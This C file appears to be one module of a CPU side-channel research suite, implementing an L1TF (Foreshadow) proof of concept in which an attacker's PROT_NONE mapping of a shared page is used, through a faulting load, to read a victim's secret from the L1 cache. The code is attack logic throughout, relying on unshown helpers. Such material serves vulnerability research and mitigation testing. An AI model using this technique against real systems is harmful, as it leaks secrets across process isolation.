/*
 * L1TF (Foreshadow): the entry of the page says "not present", the load takes its frame number all the same.
 *
 * Both processes map one page of shared memory. The attacker's mapping is PROT_NONE from before there is a secret in
 * it: its page-table entry is not present, but still holds the frame. The victim writes its secret there and works
 * with it, which brings it into the L1 cache; the attacker's load finds it there by the frame number.
 */
#include "pair.h"

static const char ABOUT[] = "process 2 only: our mapping of its page is PROT_NONE";

static u8 *shared;

static void victim_prepare(u64 bytes)
{
    SYSCALL(mprotect, shared, PAGE, PROT_READ | PROT_WRITE);
    make_secret(shared, bytes);
}

static void serve(u64 index)
{
    touch(shared + index);
}

static int prepare(u64 bytes)
{
    shared = map(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1);
    if (failed(shared))
        return 0;
    *shared = 0; /* so that there is a frame and an entry */
    SYSCALL(mprotect, shared, PAGE, PROT_NONE);
    catch_faults();
    return start_victim(bytes);
}

static void attempt(u64 index)
{
    flush_probe();
    ask_victim(index);
    FAULTING_ACCESS(LOAD_BYTE, shared + index, 0L);
}
